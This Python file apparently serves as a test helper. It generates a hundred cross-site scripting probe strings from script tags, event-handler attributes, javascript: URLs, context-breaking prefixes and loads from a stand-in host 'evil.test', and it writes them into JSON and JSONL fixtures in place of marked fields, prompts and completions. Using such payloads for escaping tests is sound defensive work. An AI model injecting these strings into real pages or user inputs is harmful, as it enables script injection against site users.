"""A hundred strings that would run a script or ask the network for something, if taken as HTML."""

from __future__ import annotations

import itertools
import json
from pathlib import Path
from typing import Any

ACTS = [
    "<script>{act}</script>",
    "<script src=//evil.test/a.js></script>",
    "<img src=x onerror={act}>",
    "<img src=https://evil.test/a.png>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<iframe srcdoc='<script>parent.{act}</script>'></iframe>",
    "<a href=javascript:{act} autofocus onfocus={act}>a</a>",
    "<details open ontoggle={act}>",
    "<body onpageshow={act}>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<link rel=stylesheet href=//evil.test/a.css>",
    "<style>@import '//evil.test/a.css';*{{background:url(//evil.test/a)}}</style>",
    "<base href=//evil.test/>",
    "<object data=//evil.test/a></object>",
    "<video><source onerror={act}></video>",
    "<input autofocus onfocus={act}>",
    "<math><mi xlink:href=javascript:{act}>x</mi></math>",
    "<form action=//evil.test/><button autofocus onfocus={act}>b</button></form>",
    "<template><img src=x onerror={act}></template>",
]
BEFORE = ["", "</script>", "\"'>", "--><!--<script>", "</textarea></title></style></pre>"]
HOSTILE = [before + act.format(act="alert(1)") for before, act in itertools.product(BEFORE, ACTS)]


def put_into(value: Any, marks: tuple[str, ...], strings: itertools.cycle[str]) -> Any:
    """JSON data with the next of the strings in the place of every text that holds a mark."""
    if isinstance(value, dict):
        return {key: put_into(one, marks, strings) for key, one in value.items()}
    if isinstance(value, list):
        return [put_into(one, marks, strings) for one in value]
    found = isinstance(value, str) and any(mark in value for mark in marks)
    return next(strings) if found else value


def fill(file: Path, marks: tuple[str, ...]) -> None:
    """`put_into` for a JSON file."""
    data = put_into(json.loads(file.read_text()), marks, itertools.cycle(HOSTILE))
    file.write_text(json.dumps(data))


def fill_completions(file: Path) -> None:
    """One string in the place of each prompt, and the next for each text."""
    strings, lines = itertools.cycle(HOSTILE), []
    prompts: dict[str, str] = {}
    for row in map(json.loads, filter(None, file.read_text(encoding="utf-8").split("\n"))):
        row["prompt"] = prompts.setdefault(row["prompt_id"], HOSTILE[4 * len(prompts)])
        row["completion"] = next(strings)
        lines.append(json.dumps(row) + "\n")
    file.write_text("".join(lines))
